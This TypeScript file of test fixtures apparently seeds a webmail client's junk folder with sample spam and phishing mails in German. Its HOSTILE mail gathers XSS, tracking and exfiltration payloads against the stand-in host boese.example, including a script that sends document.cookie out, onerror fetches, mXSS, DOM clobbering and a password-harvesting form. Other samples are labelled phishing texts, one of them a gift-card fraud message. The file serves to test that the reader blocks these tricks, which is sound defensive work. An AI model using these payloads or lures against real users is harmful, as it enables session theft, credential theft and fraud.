import { field, multipart, textPart, toBytes, words } from '../mime-text.ts';
import { PEOPLE } from '../people.ts';
import type { Special } from '../special.ts';
import { mailDate } from '../write-message.ts';

const STYLE = PEOPLE.anna.style;

function htmlMail(date: Date, from: string, subject: string, html: string): Uint8Array {
  const header = [
    field('Date', mailDate(date)),
    field('From', from),
    field('To', 'anna@example.test'),
    field('Subject', words(subject)),
    field('Message-ID', `<spam-${date.getTime()}-${subject.length}@boese.example>`),
    field('X-Spam-Flag', 'YES'),
    field('MIME-Version', '1.0'),
  ];
  const text = textPart('text/plain', 'Diese Nachricht enthält HTML.\n', STYLE);
  return toBytes(
    header.join('') +
      multipart('alternative', `jk_${date.getTime()}_${subject.length}`, [text, textPart('text/html', html, STYLE)]),
  );
}

/**
 * All at once what a hostile mail tries. The reading pane must do nothing of it, so a person can open it here and see
 * that nothing happens.
 */
const HOSTILE = `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0; url=https://boese.example/umleitung">
<base href="https://boese.example/">
<link rel="stylesheet" href="https://boese.example/stil.css">
<style>@import url("https://boese.example/import.css"); body { background: url("https://boese.example/css.gif") }
input[value^="a"] { background: url("https://boese.example/a") } .voll { position: fixed; inset: 0; z-index: 2147483647 }</style>
<script>document.location = 'https://boese.example/?c=' + document.cookie</script></head>
<body onload="alert('onload')">
<p><b>PHISHING (Übungsbeispiel):</b> Ihr Postfach ist voll. Bestätigen Sie innerhalb von 24 Stunden Ihre Zugangsdaten.</p>
<img src="x" onerror="fetch('https://boese.example/onerror')"><img src="https://boese.example/pixel.gif?anna@example.test" width="1" height="1">
<a href="javascript:alert(document.domain)">Postfach bestätigen</a> <a href="https://boese.example/anmeldung">https://portal.hohenlinden.example/anmeldung</a>
<a href="data:text/html,<script>alert(1)</script>">Anlage öffnen</a> <a href="https://xn--hohenlnden-q5a.example/">hohenlınden.example</a>
<form action="https://boese.example/passwort" method="post"><input name="passwort" type="password" placeholder="Passwort"><button>Anmelden</button></form>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg')</script><foreignObject><iframe src="https://boese.example/rahmen"></iframe></foreignObject><animate attributeName="href" values="javascript:alert(1)"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('mxss')&gt;"></table></mtext></math>
<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe><object data="https://boese.example/o.swf"></object><embed src="https://boese.example/e">
<video poster="https://boese.example/poster.jpg" src="https://boese.example/v.mp4" autoplay></video><audio src="https://boese.example/a.mp3" autoplay></audio>
<img name="body"><form id="__proto__"><input name="querySelector"></form><template><script>alert('template')</script></template>
<div class="voll" style="background-image: url('https://boese.example/style.gif')" onclick="alert('click')"> </div>
</body></html>`;

const junk = (daysAgo: number, from: string, subject: string, html: string): Special => ({
  to: 'anna',
  mailbox: 'junk',
  daysAgo,
  write: (date) => htmlMail(date, from, subject, html),
  keywords: ['$junk'],
});

export const JUNK: Special[] = [
  junk(
    2,
    '"IT-Servicedesk" <servicedesk@boese.example>',
    'Phishing (Beispiel): Ihr Postfach ist voll, bestätigen Sie jetzt Ihr Passwort',
    HOSTILE,
  ),
  junk(
    5,
    '"Paketdienst" <info@paket-zoll.example>',
    'Phishing (Beispiel): Ihr Paket liegt beim Zoll',
    '<p>Sehr geehrte(r) Kunde, für ihr Paket sind <b>1,99 EUR</b> Zollgebuhr offen.</p><p><a href="https://paket-zoll.example/zahlen?id=8812">Jetzt bezahlen</a><img src="https://paket-zoll.example/o.png" width="1" height="1"></p>',
  ),
  junk(
    8,
    '"Landrat (privat)" <landrat.hohenlinden@freemail.example>',
    'Phishing (Beispiel): Kurze Bitte, bin in Besprechung',
    '<p>Sind Sie am Platz? Ich brauche bis 15 Uhr fünf Gutscheinkarten zu je 200 Euro für Ehrengäste. Bitte die Codes abfotografieren und mir schicken, <i>nicht anrufen</i>.</p>',
  ),
  junk(
    13,
    '"Backlink Profi" <seo@backlinks.example>',
    'Platz 1 bei allen Suchmaschinen - garantiert',
    '<h1 style="color:red">Nur heute!</h1><p>10.000 Backlinks für 49 Euro.</p>',
  ),
  junk(
    20,
    '"Kredit ohne Auskunft" <hallo@kredit.example>',
    'Re: Ihre Anfrage vom Montag',
    '<p>Sofortkredit bis 80.000 EUR, auch bei Haushaltssperre ;-)</p><img src="https://kredit.example/b.jpg">',
  ),
  junk(
    29,
    '"Dr. Prinz" <prinz@erbschaft.example>',
    'Vertraulich: Erbschaft 14.500.000 USD',
    '<p>Geehrter Begünstigter, ich bin der Anwalt von verstorbener Herr Berger...</p>',
  ),
];
